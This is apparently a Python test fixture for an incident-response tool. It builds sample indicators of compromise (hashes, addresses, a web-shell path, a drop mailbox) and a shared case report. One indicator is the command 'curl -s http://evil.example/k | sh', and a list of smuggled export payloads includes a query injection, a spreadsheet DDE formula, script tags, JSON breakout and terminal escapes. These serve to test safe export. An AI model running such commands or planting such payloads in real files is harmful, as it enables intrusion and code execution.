"""Indicators, and what is told of a case, for tests of the exports."""

from __future__ import annotations

from dataclasses import replace
from typing import Any

from pratique.case.sharing import Shared
from pratique.model import Instant, Window
from pratique.story.indicator.indicator import Because, Indicator, Kind, Rule

MADE = Instant(1_793_700_000_123_456_789)
SHA = "ab" * 32
HOSTILE = (
    "/srv/a' OR file:size > 0 OR 'b.php", "/srv/it's\\\\x", "/srv/=cmd|' /C calc'!A0",
    '/srv/"},{"type":"identity', "/srv/\\xe2\\x80\\xaefdp.exe", "/srv/\\xff\\xfe", "/srv/a\\x0ab",
    "/srv/|a|", "/srv/<script>", "/srv/" + "x" * 10_000, "/srv/\\x1b[2J", "/[a](http://e.example)",
)  # fmt: skip


def one(kind: Kind, value: str, **told: Any) -> Indicator:
    rule = told.pop("rule", Rule.LEADS)
    found = Indicator(
        kind, value, rule, ("F-1",), 0.9, ("T1505.003",), ("web-php-runs-request",), MADE, None,
        "ctime",
    )  # fmt: skip
    return replace(found, **told)


def each() -> tuple[Indicator, ...]:
    """One of each kind."""
    return (
        one(Kind.SHA256, SHA, rule=Rule.MALICIOUS, paths=("/srv/x.php", "/srv/y.php"), size=70,
            md5="cd" * 16),
        one(Kind.ADDRESS, "203.0.113.66", rule=Rule.ENTRY, last=Instant(MADE + 1), personal=True,
            also=(Rule.LEADS,)),
        one(Kind.ADDRESS, "2001:db8::66", rule=Rule.CALLED, first=None, basis=""),
        one(Kind.DOMAIN, "evil.example"),
        one(Kind.URL, "http://evil.example/a.txt?x=1"),
        one(Kind.MAIL, "drop@evil.example", rule=Rule.DROP),
        one(Kind.TOKEN, "123456789", rule=Rule.BOT, detects=False),
        one(Kind.PATH, "/srv/x.php", rule=Rule.IMPLANT, detects=False),
        one(Kind.ACCOUNT, "support", rule=Rule.CREATED, detects=False),
        one(Kind.KEY, "SHA256:" + "k" * 43, rule=Rule.OPENED),
        one(Kind.COMMAND, "curl -s http://evil.example/k | sh", rule=Rule.STARTED, detects=False),
        one(Kind.AGENT, "tool/1.0", rule=Rule.SAID, detects=False),
    )  # fmt: skip


def hostile() -> tuple[Indicator, ...]:
    """Values that an intruder has chosen well, of every kind that takes any text."""
    kinds = (Kind.PATH, Kind.ACCOUNT, Kind.COMMAND, Kind.AGENT, Kind.URL)
    named = (one(kind, value) for kind in kinds for value in HOSTILE)
    return (*named, one(Kind.SHA256, SHA, rule=Rule.MALICIOUS, paths=HOSTILE))


def told(*indicators: Indicator, **changed: Any) -> Shared:
    found = Shared(
        seed="a case", machine="harbour", state="compromised",
        window=Window(None, MADE, ("ctime",)), made=MADE, version="0.1.0", indicators=indicators,
        left_out={Because.OWN: 2}, dismissed=1, titles={"web-php-runs-request": "A web shell"},
        summary=("Somebody broke in.",), limits=("1 file could not be read",),
    )  # fmt: skip
    return replace(found, **changed)
